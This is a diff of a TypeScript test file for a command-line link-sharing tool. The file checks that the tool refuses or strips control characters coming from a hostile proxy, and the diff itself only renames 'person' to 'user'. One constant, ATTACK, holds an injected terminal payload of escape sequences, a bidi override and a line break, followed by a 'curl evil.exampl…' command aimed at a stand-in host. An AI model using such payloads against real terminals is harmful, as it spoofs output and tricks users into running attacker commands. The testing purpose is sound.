@@ -7,7 +7,7 @@ import { hurriedClock } from '../support/hurried-clock.ts';
 import { image } from '../support/media/media.ts';
 import { itWith } from '../support/only-on.ts';
 import { type HostileProxy, openHostileProxy, type Spoil } from '../support/server/hostile-proxy.ts';
-import { type Person, type RunningServer, startServer } from '../support/server/server.ts';
+import { type RunningServer, startServer, type User } from '../support/server/server.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
 // Processes start slowly on a crowded machine; nothing here is about speed.
@@ -20,7 +20,7 @@ const ATTACK = '\u001b]0;PWNED\u0007\u001b[2J\u009b31m\u202e\r\ncurl evil.exampl
 const UNSAFE = /[^\P{Cc}\n\t]|\p{Bidi_Control}|[\u2028\u2029]/u;
 
 let server: RunningServer;
-let person: Person;
+let user: User;
 let proxy: HostileProxy;
 const bin = join(root, 'bin');
 const clipboard = join(root, 'clipboard');
@@ -44,7 +44,7 @@ afterAll(async () => {
 const run = (words: readonly string[], profile: string, input?: string) =>
   performCommand(
     [...words, '--profile', profile, '--server', proxy.url],
-    { LINKSHOT_KEY: person.apiKey, PATH: process.env['PATH'] ?? '', DISPLAY: ':0' },
+    { LINKSHOT_KEY: user.apiKey, PATH: process.env['PATH'] ?? '', DISPLAY: ':0' },
     input,
     { clock: hurriedClock() },
   );
@@ -67,7 +67,7 @@ const expectPlain = ({ code, stdout, stderr }: { code: number | null; stdout: st
 
 /** An item of a new account that is published and known to the profile, while nothing is spoilt. */
 const published = async (profile: string): Promise<string> => {
-  person = server.person();
+  user = server.user();
   proxy.spoil(null);
   const done = await run(['note', '-', '--json'], profile, 'a first text');
   return String(done.json()[0]?.['id']);
@@ -112,7 +112,7 @@ describe('a service that appends escapes, line breaks and overlong values', () =
   });
 
   itWith('programs of Linux')('still gives the plain link where only texts for people are spoilt', async () => {
-    person = server.person();
+    user = server.user();
     proxy.spoil(inTexts);
     const done = await run(['upload', await image('jpeg'), '--copy'], join(root, 'plain-link'));
     expect(done).toMatchObject({ code: 0, stdout: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/s\/[\w-]+\n$/) });
@@ -120,7 +120,7 @@ describe('a service that appends escapes, line breaks and overlong values', () =
   });
 
   it('refuses a link with control characters, and says so', async () => {
-    person = server.person();
+    user = server.user();
     proxy.spoil(inAddresses);
     const done = await run(['note', '-', '--json'], join(root, 'refused'), 'refused');
     expect(done.code).toBe(1);
